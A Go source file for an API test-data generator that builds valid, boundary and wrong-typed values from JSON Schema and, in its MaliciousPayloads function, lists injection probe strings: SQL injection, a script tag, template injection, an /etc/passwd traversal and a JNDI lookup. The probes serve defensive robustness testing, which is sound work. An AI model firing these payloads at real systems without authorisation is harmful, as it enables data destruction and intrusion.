// Package datagen produces request values from JSON Schema fragments:
// valid examples, boundary cases around declared limits, deliberately
// wrong-typed values and a small set of injection probe strings.
package datagen

import (
	"fmt"
	"math/rand"

	"github.com/google/uuid"
)

// Generator derives values from schemas. Seeding the RNG makes a run
// reproducible.
type Generator struct {
	rng *rand.Rand
}

// New creates a generator. A zero seed selects a fixed default so
// unseeded runs are still reproducible.
func New(seed int64) *Generator {
	if seed == 0 {
		seed = 1
	}
	return &Generator{rng: rand.New(rand.NewSource(seed))}
}

// BoundaryCase is one value probing a schema limit, with the validity
// the API should assign it.
type BoundaryCase struct {
	Description   string
	Value         any
	ExpectedValid bool
}

// FromSchema generates a value satisfying the schema when valid is
// true, or a deliberately out-of-range value otherwise. Unknown or
// missing types degrade to a plain string.
func (g *Generator) FromSchema(schema map[string]any, valid bool) any {
	if schema == nil {
		return g.randomString(8)
	}
	if enum, ok := schema["enum"].([]any); ok && len(enum) > 0 {
		if valid {
			return enum[g.rng.Intn(len(enum))]
		}
		return "not-in-enum-" + g.randomString(6)
	}

	typ, _ := schema["type"].(string)
	switch typ {
	case "object":
		return g.objectFromSchema(schema, valid)
	case "array":
		return g.arrayFromSchema(schema, valid)
	case "integer":
		return g.integerFromSchema(schema, valid)
	case "number":
		return g.numberFromSchema(schema, valid)
	case "boolean":
		return valid || g.rng.Intn(2) == 0
	default:
		return g.stringFromSchema(schema, valid)
	}
}

func (g *Generator) objectFromSchema(schema map[string]any, valid bool) any {
	props, _ := schema["properties"].(map[string]any)
	required := stringSet(schema["required"])

	out := make(map[string]any, len(props))
	for name, raw := range props {
		ps, _ := raw.(map[string]any)
		// Optional properties are included half the time to vary shape.
		if !required[name] && g.rng.Intn(2) == 0 {
			continue
		}
		out[name] = g.FromSchema(ps, valid)
	}
	return out
}

func (g *Generator) arrayFromSchema(schema map[string]any, valid bool) any {
	items, _ := schema["items"].(map[string]any)
	n := 1 + g.rng.Intn(3)
	if min, ok := asInt(schema["minItems"]); ok && n < min {
		n = min
	}
	out := make([]any, n)
	for i := range out {
		out[i] = g.FromSchema(items, valid)
	}
	return out
}

func (g *Generator) integerFromSchema(schema map[string]any, valid bool) any {
	min, hasMin := asInt(schema["minimum"])
	max, hasMax := asInt(schema["maximum"])
	if !valid {
		if hasMax {
			return max + 1
		}
		if hasMin {
			return min - 1
		}
		return "not-an-integer"
	}
	lo, hi := 1, 1000
	if hasMin {
		lo = min
	}
	if hasMax {
		hi = max
	}
	if hi < lo {
		hi = lo
	}
	return lo + g.rng.Intn(hi-lo+1)
}

func (g *Generator) numberFromSchema(schema map[string]any, valid bool) any {
	v := g.integerFromSchema(schema, valid)
	if n, ok := v.(int); ok {
		return float64(n) + g.rng.Float64()
	}
	return v
}

func (g *Generator) stringFromSchema(schema map[string]any, valid bool) any {
	if !valid {
		// Violate the length constraint when one exists, otherwise
		// hand back a wrong type.
		if max, ok := asInt(schema["maxLength"]); ok {
			return g.randomString(max + 1)
		}
		if min, ok := asInt(schema["minLength"]); ok && min > 0 {
			return g.randomString(min - 1)
		}
		return 12345
	}

	format, _ := schema["format"].(string)
	switch format {
	case "email":
		return g.randomString(8) + "@example.com"
	case "uri", "url":
		return "https://example.com/" + g.randomString(8)
	case "date":
		return fmt.Sprintf("2024-%02d-%02d", 1+g.rng.Intn(12), 1+g.rng.Intn(28))
	case "date-time":
		return fmt.Sprintf("2024-%02d-%02dT%02d:%02d:%02dZ",
			1+g.rng.Intn(12), 1+g.rng.Intn(28), g.rng.Intn(24), g.rng.Intn(60), g.rng.Intn(60))
	case "uuid":
		return uuid.NewString()
	case "password":
		return g.randomString(16)
	}

	n := 8
	if min, ok := asInt(schema["minLength"]); ok && n < min {
		n = min
	}
	if max, ok := asInt(schema["maxLength"]); ok && n > max {
		n = max
	}
	return g.randomString(n)
}

// WrongTypeValue returns a value of a type the schema does not declare.
func (g *Generator) WrongTypeValue(schema map[string]any) any {
	typ, _ := schema["type"].(string)
	switch typ {
	case "string":
		return 42
	case "integer", "number":
		return "not-a-number"
	case "boolean":
		return "not-a-boolean"
	case "array":
		return map[string]any{"unexpected": "object"}
	case "object":
		return []any{"unexpected", "array"}
	default:
		return nil
	}
}

// BoundaryValues enumerates cases at and just beyond the schema's
// declared numeric and length limits.
func (g *Generator) BoundaryValues(schema map[string]any) []BoundaryCase {
	var cases []BoundaryCase
	if schema == nil {
		return cases
	}
	if min, ok := asInt(schema["minimum"]); ok {
		cases = append(cases,
			BoundaryCase{Description: "at minimum", Value: min, ExpectedValid: true},
			BoundaryCase{Description: "below minimum", Value: min - 1, ExpectedValid: false},
		)
	}
	if max, ok := asInt(schema["maximum"]); ok {
		cases = append(cases,
			BoundaryCase{Description: "at maximum", Value: max, ExpectedValid: true},
			BoundaryCase{Description: "above maximum", Value: max + 1, ExpectedValid: false},
		)
	}
	if min, ok := asInt(schema["minLength"]); ok {
		cases = append(cases,
			BoundaryCase{Description: "at min length", Value: g.randomString(min), ExpectedValid: true},
		)
		if min > 0 {
			cases = append(cases,
				BoundaryCase{Description: "below min length", Value: g.randomString(min - 1), ExpectedValid: false},
			)
		}
	}
	if max, ok := asInt(schema["maxLength"]); ok {
		cases = append(cases,
			BoundaryCase{Description: "at max length", Value: g.randomString(max), ExpectedValid: true},
			BoundaryCase{Description: "above max length", Value: g.randomString(max + 1), ExpectedValid: false},
		)
	}
	return cases
}

// MaliciousPayloads returns probe strings for injection-style
// robustness checks. The API is expected to reject or neutralize them,
// never to error out with a 5xx.
func MaliciousPayloads() []string {
	return []string{
		"' OR '1'='1",
		"\"; DROP TABLE users; --",
		"<script>alert(1)</script>",
		"{{7*7}}",
		"../../../etc/passwd",
		"%00",
		"${jndi:ldap://example.com/a}",
	}
}

const randomChars = "abcdefghijklmnopqrstuvwxyz0123456789"

func (g *Generator) randomString(n int) string {
	if n < 0 {
		n = 0
	}
	b := make([]byte, n)
	for i := range b {
		b[i] = randomChars[g.rng.Intn(len(randomChars))]
	}
	return string(b)
}

func stringSet(raw any) map[string]bool {
	out := map[string]bool{}
	if list, ok := raw.([]any); ok {
		for _, v := range list {
			if s, ok := v.(string); ok {
				out[s] = true
			}
		}
	}
	return out
}

func asInt(v any) (int, bool) {
	switch n := v.(type) {
	case int:
		return n, true
	case int64:
		return int(n), true
	case float64:
		return int(n), true
	}
	return 0, false
}
